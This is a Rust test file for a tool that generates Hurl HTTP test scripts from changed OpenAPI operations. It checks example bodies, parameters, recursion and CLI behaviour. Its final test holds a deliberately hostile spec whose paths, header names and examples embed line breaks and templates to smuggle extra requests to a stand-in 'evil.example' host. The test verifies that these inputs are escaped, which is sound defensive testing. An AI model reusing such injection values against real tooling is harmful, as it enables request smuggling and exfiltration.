//! `apidiff tests`: Hurl scripts for the operations a comparison added or changed.

use apidiff::diff::{self, Options};
use apidiff::hurl::{self, TestFile};
use apidiff::source::Input;
use apidiff::spec::{self, LoadOptions, Spec};
use std::path::Path;
use std::process::Command;

const BASE: &str = r##"openapi: 3.0.3
info: {title: pets, version: '1'}
paths:
  /pets:
    get:
      responses:
        '200':
          description: ok
          content:
            application/json:
              schema: {type: array, items: {$ref: '#/components/schemas/Pet'}}
  /health:
    get:
      responses:
        '204': {description: ok}
components:
  schemas:
    Pet:
      type: object
      required: [id, name]
      properties:
        id: {type: integer}
        name: {type: string}
"##;

const REVISION: &str = r##"openapi: 3.0.3
info: {title: pets, version: '2'}
paths:
  /pets:
    get:
      parameters:
        - {name: limit, in: query, required: true, schema: {type: integer, default: 20}}
      responses:
        '200':
          description: ok
          content:
            application/json:
              schema: {type: array, items: {$ref: '#/components/schemas/Pet'}}
  /health:
    get:
      responses:
        '204': {description: ok}
  /owners/{ownerId}/pets:
    post:
      parameters:
        - {name: ownerId, in: path, required: true, schema: {type: integer}, example: 42}
        - {name: dryRun, in: query, required: true, schema: {type: boolean}}
        - {name: X-Request-Id, in: header, required: true, schema: {type: string, format: uuid}}
        - {name: verbose, in: query, schema: {type: boolean}}
      requestBody:
        required: true
        content:
          application/json:
            schema: {$ref: '#/components/schemas/NewPet'}
      responses:
        '400': {description: bad}
        '201':
          description: created
          content:
            application/json:
              schema: {$ref: '#/components/schemas/Pet'}
components:
  schemas:
    Pet:
      type: object
      required: [id, name]
      properties:
        id: {type: integer}
        name: {type: string}
    NewPet:
      type: object
      required: [name, born, kind, tags, owner]
      properties:
        name: {type: string}
        born: {type: string, format: date-time}
        kind: {type: string, enum: [cat, dog]}
        tags: {type: array, items: {type: string, format: email}}
        owner: {$ref: '#/components/schemas/Owner'}
        nickname: {type: string}
    Owner:
      type: object
      required: [name, friend]
      properties:
        name: {type: string}
        friend: {$ref: '#/components/schemas/Owner'}
"##;

fn load(name: &str, text: &str) -> Spec {
    let input = Input::from_text(name, text.as_bytes().to_vec(), Path::new(".")).unwrap();
    spec::load(&input, &LoadOptions::default()).unwrap()
}

fn generate(base_url: Option<&str>) -> Vec<TestFile> {
    let (b, r) = (load("base.yaml", BASE), load("revision.yaml", REVISION));
    let changes = diff::compare(&b, &r, &Options::default()).unwrap();
    let Spec::OpenApi(api) = &r else { panic!("openapi expected") };
    hurl::generate(api, &changes, base_url)
}

#[test]
fn one_file_per_added_or_changed_operation() {
    let files = generate(None);
    let names: Vec<&str> = files.iter().map(|f| f.name.as_str()).collect();
    assert_eq!(names, ["get_pets.hurl", "post_owners_ownerid_pets.hurl"]);

    let changed = &files[0].content;
    assert!(changed.contains("\nGET {{base_url}}/pets\n[QueryStringParams]\nlimit: 20\n"), "{changed}");
    assert!(changed.contains("\nHTTP 200\n"), "{changed}");
    assert!(!changed.contains("jsonpath"), "an array response has no top-level properties: {changed}");

    let added = &files[1].content;
    assert!(added.starts_with("# POST /owners/{ownerId}/pets (endpoint-added)\n"), "{added}");
    assert!(
        added.contains(
            "\nPOST {{base_url}}/owners/42/pets\nX-Request-Id: 3fa85f64-5717-4562-b3fc-2c963f66afa6\n[QueryStringParams]\ndryRun: true\n{\n"
        ),
        "{added}"
    );
    assert!(!added.contains("verbose"), "optional parameters are left out: {added}");
    let body_start = added.find("\n{\n").unwrap() + 1;
    let body_end = added.find("\n}\n").unwrap() + 2;
    let body: serde_json::Value = serde_json::from_str(&added[body_start..body_end]).unwrap();
    assert_eq!(
        body,
        serde_json::json!({
            "name": "example",
            "born": "2024-01-01T00:00:00Z",
            "kind": "cat",
            "tags": ["user@example.com"],
            // The recursive `friend` is cut where Owner refers back to itself.
            "owner": {"name": "example"}
        })
    );
    assert!(added.ends_with("\n\nHTTP 201\n[Asserts]\njsonpath \"$.id\" exists\njsonpath \"$.name\" exists\n"), "{added}");
}

#[test]
fn base_url_replaces_the_variable() {
    let files = generate(Some("http://localhost:8080/"));
    assert!(files[1].content.contains("\nPOST http://localhost:8080/owners/42/pets\n"), "{}", files[1].content);
    assert!(files.iter().all(|f| !f.content.contains("{{base_url}}")));
}

#[test]
fn directly_recursive_required_property_terminates() {
    let rec = REVISION.replace("schema: {$ref: '#/components/schemas/NewPet'}", "schema: {$ref: '#/components/schemas/Owner'}");
    let (b, r) = (load("base.yaml", BASE), load("revision.yaml", &rec));
    let changes = diff::compare(&b, &r, &Options::default()).unwrap();
    let Spec::OpenApi(api) = &r else { panic!("openapi expected") };
    let files = hurl::generate(api, &changes, None);
    assert!(files[1].content.contains("\n{\n  \"name\": \"example\"\n}\n"), "{}", files[1].content);
}

fn apidiff(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_apidiff")).current_dir(dir).args(args).env("NO_COLOR", "1").output().unwrap()
}

#[test]
fn cli_writes_the_files_and_refuses_other_formats() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("old.yaml"), BASE).unwrap();
    std::fs::write(dir.path().join("new.yaml"), REVISION).unwrap();
    let o = apidiff(dir.path(), &["tests", "old.yaml", "new.yaml", "--out", "hurl"]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let mut written: Vec<String> =
        std::fs::read_dir(dir.path().join("hurl")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    written.sort();
    assert_eq!(written, ["get_pets.hurl", "post_owners_ownerid_pets.hurl"]);
    let text = std::fs::read_to_string(dir.path().join("hurl/post_owners_ownerid_pets.hurl")).unwrap();
    assert!(text.contains("HTTP 201"), "{text}");

    let o = apidiff(dir.path(), &["tests", "old.yaml", "new.yaml"]);
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(stdout.contains("GET {{base_url}}/pets") && stdout.contains("POST {{base_url}}/owners/42/pets"), "{stdout}");

    std::fs::write(dir.path().join("a.graphql"), "type Query { a: Int }\n").unwrap();
    std::fs::write(dir.path().join("b.graphql"), "type Query { a: Int, b: Int }\n").unwrap();
    let o = apidiff(dir.path(), &["tests", "a.graphql", "b.graphql"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("OpenAPI") && err.contains("b.graphql"), "{err}");
}

#[test]
fn swagger_bodies_and_all_of() {
    let base = "swagger: '2.0'\ninfo: {title: t, version: '1'}\npaths: {}\n";
    let rev = r##"swagger: '2.0'
info: {title: t, version: '1'}
consumes: [application/json]
produces: [application/json]
paths:
  /items:
    post:
      parameters:
        - {name: item, in: body, required: true, schema: {$ref: '#/definitions/Item'}}
      responses:
        '200':
          description: ok
          schema: {allOf: [{$ref: '#/definitions/Base'}, {type: object, required: [size]}]}
definitions:
  Base: {type: object, required: [id], properties: {id: {type: string, format: uuid}}}
  Item:
    allOf:
      - {$ref: '#/definitions/Base'}
      - {type: object, required: [size], properties: {size: {type: integer, minimum: 3}}}
"##;
    let (b, r) = (load("base.yaml", base), load("revision.yaml", rev));
    let changes = diff::compare(&b, &r, &Options::default()).unwrap();
    let Spec::OpenApi(api) = &r else { panic!("openapi expected") };
    let files = hurl::generate(api, &changes, None);
    assert_eq!(files.len(), 1);
    let f = &files[0];
    assert_eq!(f.name, "post_items.hurl");
    assert!(
        f.content.contains("POST {{base_url}}/items\n{\n  \"id\": \"3fa85f64-5717-4562-b3fc-2c963f66afa6\",\n  \"size\": 3\n}\n"),
        "{}",
        f.content
    );
    assert!(f.content.ends_with("HTTP 200\n[Asserts]\njsonpath \"$.id\" exists\njsonpath \"$.size\" exists\n"), "{}", f.content);
}

/// Issue 24: a path (or a parameter, an example, a property) holding a line break wrote raw
/// Hurl into the file: a second request to another host. Every piece of data is now escaped
/// in Hurl's syntax, so each file holds exactly one request.
#[test]
fn data_cannot_inject_hurl() {
    let hostile = r##"openapi: 3.0.3
info: {title: pets, version: '1'}
paths:
  "/a\nGET http://evil.example/steal\nHTTP 200\n#{{x}} b":
    post:
      parameters:
        - {name: "X-Key\nGET http://evil.example/h", in: header, required: true, schema: {type: string, example: "v\r\nGET http://evil.example/v #c {{t}}"}}
        - {name: "q", in: query, required: true, schema: {type: string, example: "1\nGET http://evil.example/q"}}
      requestBody:
        content:
          application/json:
            schema: {type: object, required: [s], properties: {s: {type: string, example: "{{secret}}\n```\nGET http://evil.example/b"}}}
      responses:
        '200':
          description: ok
          content:
            application/json:
              schema: {type: object, required: ["p\"\nGET http://evil.example/j"], properties: {}}
"##;
    let base = "openapi: 3.0.3\ninfo: {title: pets, version: '1'}\npaths: {}\n";
    let (b, r) = (load("base.yaml", base), load("revision.yaml", hostile));
    let changes = diff::compare(&b, &r, &Options::default()).unwrap();
    let Spec::OpenApi(api) = &r else { panic!("openapi expected") };
    let files = hurl::generate(api, &changes, None);
    assert_eq!(files.len(), 1);
    let content = &files[0].content;
    // One request line and one response line; no line starts with the injected request.
    let requests = content.lines().filter(|l| l.starts_with("POST ") || l.starts_with("GET ")).count();
    assert_eq!(requests, 1, "{content}");
    assert_eq!(content.lines().filter(|l| l.starts_with("HTTP ")).count(), 1, "{content}");
    assert!(
        !content.lines().any(|l| l.contains("evil.example") && !l.starts_with('#') && !l.contains('\\') && !l.contains('%')),
        "{content}"
    );
    // Templates only where apidiff put one (comments are not read by Hurl).
    assert_eq!(content.lines().filter(|l| !l.starts_with('#')).map(|l| l.matches("{{").count()).sum::<usize>(), 1, "{content}");
    assert!(content.contains("POST {{base_url}}/a%0AGET%20http://evil.example/steal%0AHTTP%20200%0A%23%7B%7Bx%7D%7D%20b\n"), "{content}");
    assert!(
        content.contains("\nX-Key\\u{a}GET\\u{20}http\\:\\u{2f}\\u{2f}evil.example\\u{2f}h: v\\r\\nGET http://evil.example/v \\#c \\u{7b}\\u{7b}t\\u{7d}\\u{7d}\n"),
        "{content}"
    );
    assert!(content.contains("\nq: 1\\nGET http://evil.example/q\n"), "{content}");
    assert!(content.contains("\"{\\u007bsecret}}\\n```\\nGET http://evil.example/b\""), "{content}");
    assert!(content.contains("\njsonpath \"$['p\\\"\\nGET http://evil.example/j']\" exists\n"), "{content}");
}
